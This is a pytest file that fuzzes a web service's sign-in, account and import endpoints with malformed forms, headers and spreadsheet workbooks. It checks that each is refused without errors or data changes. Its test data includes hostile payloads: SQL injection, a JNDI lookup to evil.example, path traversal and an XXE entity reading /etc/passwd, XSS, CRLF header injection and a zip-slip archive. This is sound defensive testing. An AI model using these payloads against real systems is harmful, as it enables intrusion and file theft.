"""What comes to the doors themselves: forms of pages, headers, and workbooks nobody should send.

Each case is refused, or taken as if it were not there; none is a failure, and none changes anything.
"""

from __future__ import annotations

import asyncio
import io
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote_plus

import httpx
import pytest

from graphsvc.access import delays, passwords
from graphsvc.access.audit import AUDIT, HEADS
from graphsvc.access.desk import Desk
from graphsvc.access.links import LINKS, make_link
from graphsvc.access.passwords import PASSWORDS
from graphsvc.access.users import USERS
from graphsvc.stores.port import GraphStore, Scope
from models.access import Role
from models.kinds import FIRM
from tests.api.test_imports import ended
from tests.api.visiting import CHEAP, browser, proof_of, sign_in, user
from tests.unit.imports.xlsx import rows_of, workbook

API = "/api/v1"
SOON_S = 30
"""No answer of these takes anything like it; who waits for one has found a hang."""
FORM = "application/x-www-form-urlencoded"
TEXTS = (
    "",
    " ",
    "\0",
    "a\r\nSet-Cookie: x=1",
    "\u202egpj.exe",
    "a\u200bda",
    "ＡＤＡ",
    "e\u0301",
    "é",
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "💣" * 500,
    "x" * 100_000,
)
BODIES: tuple[tuple[str, bytes], ...] = (
    (FORM, b""),
    (FORM, b"&&&==&"),
    (FORM, b"name=%ff%fe&password=%zz"),
    (FORM, b"name=a&name=b&password=c&password=d"),
    (FORM, b"&".join(b"f%d=1" % number for number in range(1000))),
    (FORM, b"name=" + b"x" * 1_500_000),
    ("application/json", b'{"name": "ada"}'),
    ("text/plain", b"name=ada"),
    ("", b"name=ada"),
    ("multipart/form-data", b"--x"),
    ("multipart/form-data; boundary=x", b"--y\r\n\r\n"),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="name"'),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="name"; filename="a"\r\n\r\nada\r\n--x--\r\n',
    ),
    ("multipart/form-data; boundary=" + "x" * 300, b"--x--"),
    (FORM + "; charset=utf-16", "name=ada".encode("utf-16")),
)
HEADERS: dict[str, tuple[bytes, ...]] = {
    "Idempotency-Key": (b"", b"a b", b"\xff", "键".encode(), b"x" * 256, b"a\x00b", b"{}\t"),
    "If-Match": (b"", b"*", b'W/"r1"', b"r1", b'"r1", "r2"', b'"r-1"', b'"r9999999999999999"', b"\xff"),
    "If-None-Match": (b'"' + b"x" * 60_000 + b'"', b",,,,", b"\xff", b'W/"'),
    "Range": (
        b"bytes=0-0",
        b"bytes=-1",
        b"bytes=5-1",
        b"bytes=0-,0-,0-",
        b"lines=1",
        b"\xff",
        b"bytes=" + b"9" * 40,
    ),
    "Accept": (b"", b";;;", b"*", b"text/html;q=NaN", b"a/b/c;q=1e999", b"\xff/\xff", b"x/y," * 5000),
    "Accept-Language": (b"zh;q=", b";q=1", b"x" * 9000, b"\xff", b"zh-" * 1000, b"*;q=1e400"),
    "Content-Type": (
        b"",
        b"json",
        b"application/json; charset=utf-16",
        b"\xff",
        b"text/xml",
        b"application/json;" * 400,
    ),
    "Content-Length": (b"-1", b"1e3", b"99999999999999999999", "１".encode()),
    "Cookie": (b"graphsvc=" + b"x" * 5000, b"graphsvc=\xff", b";;=;", b"graphsvc=a; graphsvc=b", b"lang=<b>"),
    "Authorization": (
        b"Bearer",
        b"Bearer \xff",
        b"Basic eDp5",
        b"Bearer gsk_" + b"x" * 9000,
        b"\xff",
        b"bearer\tgsk_",
    ),
    "X-Request-Id": (b"", b"a b", b"\xff", b"x" * 65, b"<b>"),
    "X-CSRF-Token": (b"", b"x", b"\xff", b"x" * 9000),
    "Host": (b"", b"evil.example", b"[::1", b"localhost:99999", b"\xff"),
    "Expect": (b"200-ok",),
    "Transfer-Encoding": (b"chunked, chunked",),
}
"""By name, what a header cannot be; each goes with a read, a change and a new record."""
SIGNS = ("\0", "a b", "%", "%zz", "..", "a%00b", "\u202e", "x" * 3000, "*", "' OR 1=1 --")


@pytest.fixture(autouse=True)
def cheap_passwords(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(passwords, "HASHER", CHEAP)
    monkeypatch.setattr(delays, "FREE", dict.fromkeys(delays.FREE, 10_000))


async def kept(store: GraphStore, *areas: str) -> object:
    """Records, logs, and who may come in: attempts, sessions and their lines in the trail may be more."""
    scope = Scope("tester")
    things = [await store.kept_in(area) for area in (USERS, PASSWORDS, LINKS, *areas)]
    return things, await store.log(scope, FIRM, limit=1000), await store.accounts(scope)


async def within_reason(client: httpx.AsyncClient, method: str, path: str, **asked: Any) -> httpx.Response:
    """The answer, unless it does not come; no answer is a failure of the service."""
    async with asyncio.timeout(SOON_S):
        answer = await client.request(method, path, **asked)
    assert answer.status_code < 500, (method, path[:80], str(asked)[:200], answer.text[:300])
    assert "set-cookie: x=1" not in str(answer.headers).lower()
    return answer


def forms() -> Iterator[dict[str, Any]]:
    """Each text in each field of the forms at the doors, and bodies that are none."""
    for text in TEXTS:
        for name in ("name", "password", "next", "current", "language", "csrf"):
            fields = {"name": "ada", "password": "wrong wrong wrong", name: text}
            body = "&".join(f"{key}={quote_plus(value)}" for key, value in fields.items())
            yield {"content": body.encode(), "headers": {"Content-Type": FORM}}
    for kind, content in BODIES:
        yield {"content": content, "headers": {"Content-Type": kind}}


async def test_no_form_brings_anybody_in_or_changes_who_may(store: GraphStore) -> None:
    await user(store, "ada", Role.ADMIN)
    link = f"/set-up/{await make_link(Desk(store), 'ada')}"
    cases = list(forms())
    assert len(cases) > 100
    before = await kept(store)
    async with browser(store) as client:
        for asked in cases:
            answer = await within_reason(client, "POST", "/sign-in", **asked)
            assert (answer.status_code, "graphsvc" in client.cookies) != (303, True), asked
            body = asked["content"][:200_000]
            body += b"&password=short" if asked["headers"]["Content-Type"] == FORM else b""
            for path in (link, "/set-up/unknown", "/sign-out", "/account/password", "/account/language"):
                answer = await within_reason(client, "POST", path, **{**asked, "content": body})
                assert answer.status_code in (400, 401, 403, 404, 413, 415, 422), (path, str(asked)[:200])
        for sign in SIGNS:
            for path in (
                f"/set-up/{sign}",
                f"/sign-in?next={sign}",
                f"/sign-in/return?state={sign}&code={sign}",
            ):
                await within_reason(client, "GET", path.replace("\0", "%00"))
    assert await kept(store) == before


async def test_no_form_of_who_has_signed_in_changes_what_it_should_not(store: GraphStore) -> None:
    await user(store, "ada", Role.ADMIN)
    async with browser(store) as client:
        await sign_in(client, "ada")
        proof = await proof_of(client)
        before = await kept(store)
        for asked in forms():
            headers = {**asked["headers"], **proof}
            for path in ("/account/password", "/account/language"):
                answer = await within_reason(client, "POST", path, content=asked["content"], headers=headers)
                assert answer.status_code in (303, 400, 413, 422), (path, str(asked)[:200])
                assert "said=changed" not in answer.headers.get("location", "")
        assert (await client.get(f"{API}/accounts")).status_code == 200, "nor is he thrown out"
    assert await kept(store) == before


@pytest.mark.parametrize("name", HEADERS)
async def test_no_header_breaks_an_answer_or_lets_a_write_through(
    client: httpx.AsyncClient, account: str, store: GraphStore, name: str
) -> None:
    harmless = ("Range", "Accept", "Accept-Language", "If-None-Match", "Cookie", "X-Request-Id", "Expect")
    before = await kept(store, AUDIT, HEADS), await store.records(Scope("tester"), account)
    for value in HEADERS[name]:
        for path in (
            "contacts/boss",
            f"accounts/{account}/influencers",
            f"accounts/{account}/views/influence",
        ):
            await within_reason(client, "GET", f"{API}/{path}", headers=[(name.encode(), value)])
        wrong = b'{"name": 7}'
        kind = [] if name == "Content-Type" else [(b"Content-Type", b"application/json")]
        for method, path in (("POST", "contacts"), ("PATCH", "contacts/boss"), ("POST", "changesets")):
            match = [(b"If-Match", b'"r1"')] if name != "If-Match" else []
            headers = [(name.encode(), value), *kind, *match]
            answer = await within_reason(client, method, f"{API}/{path}", content=wrong, headers=headers)
            assert answer.status_code >= 400, (name, value[:40], method, path)
        if name not in harmless:
            continue
        assert (await client.get(f"{API}/contacts/boss", headers=[(name.encode(), value)])).status_code in (
            200,
            304,
        )
    assert (await kept(store, AUDIT, HEADS), await store.records(Scope("tester"), account)) == before


def sheet(*rows: list[str]) -> bytes:
    return workbook({"people": rows_of(*rows)})


def packed(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


PLAIN = sheet(["id", "name"], ["p1", "Pia Example"])
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><workbook>&b;</workbook>'
)
WORKBOOKS: dict[str, bytes] = {
    "nothing": b"",
    "no archive": b"PK\x03\x04",
    "cut off": PLAIN[: len(PLAIN) // 2],
    "turned bits": PLAIN[:200] + bytes(byte ^ 255 for byte in PLAIN[200:400]) + PLAIN[400:],
    "no workbook in it": packed(a=b"b"),
    "an entity": packed(xl__workbook=ENTITIES),
    "paths upwards": packed(**{"..__..__evil": b"x"}),
    "no rows": sheet(),
    "a header alone": sheet(["id", "name"]),
    "no known column": sheet(["colour"], ["red"]),
    "the same column twice": sheet(["id", "id", "name"], ["p1", "p2", "Pia"]),
    "a rung nobody knows": sheet(["id", "name", "rung"], ["p1", "Pia", "sky"]),
    "an older kind of file": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
}


async def test_no_workbook_is_taken_that_is_none(
    client: httpx.AsyncClient, account: str, store: GraphStore
) -> None:
    before = await store.records(Scope("tester"), account), await kept(store)
    taken = []
    for what, data in WORKBOOKS.items():
        files = {"files": ("报价 2026.xlsx", data)}
        answer = await within_reason(client, "POST", f"{API}/imports", data={"account": account}, files=files)
        assert answer.status_code in (202, 422), (what, answer.text)
        if answer.status_code == 202:
            async with asyncio.timeout(SOON_S):
                job = await ended(client, answer.json()["id"])
            told = job["result"] or {}
            if job["state"] != "failed" and told.get("put"):
                taken.append((what, job["state"], told))
            elif job["state"] == "failed":
                assert job["problem"]["code"] == "invalid-input", (what, job)
    assert not taken, " | ".join(what for what, *_ in taken)
    assert (await store.records(Scope("tester"), account), await kept(store)) == before


def test_there_are_cases_enough() -> None:
    headers = sum(map(len, HEADERS.values()))
    assert len(list(forms())) * 8 + headers * 6 + len(SIGNS) * 3 + len(WORKBOOKS) > 1_200
